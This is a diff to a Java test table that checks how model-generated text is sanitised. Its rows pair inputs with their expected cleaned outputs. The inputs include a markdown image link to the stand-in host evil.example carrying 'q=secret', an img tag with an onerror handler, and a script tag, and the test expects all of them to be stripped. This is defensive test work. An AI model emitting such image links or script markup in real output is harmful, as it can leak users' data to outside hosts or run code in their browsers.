@@ -106,7 +106,7 @@ class ModelTextTest {
             Dar met Ding ![x](https://evil.example/?q=secret. Really) in Beijing.          | Dar met Ding in Beijing.
             Dar met [Ding](https://evil.example/a.b).                                       | Dar met Ding.
             Dar met <b>Ding</b> <img src="https://e.example/x. Y.png" onerror="a()">here.   | Dar met Ding here.
-            Dar met Ding.<script>alert("Hi. There")</script>                                | Dar met Ding.
+            Dar met Ding.<script>alert("Hi. There")</script> Tea was served.                             | Dar met Ding. Tea was served.
             Dar met Ding, see https://evil.example/?q=1 for more.                           | Dar met Ding, see for more.
             The form is at https://forms.example/leave and free.                            | The form is at https://forms.example/leave and free.
             Dar met `Ding` in **Beijing** on *Sunday*.                                      | Dar met Ding in Beijing on Sunday.
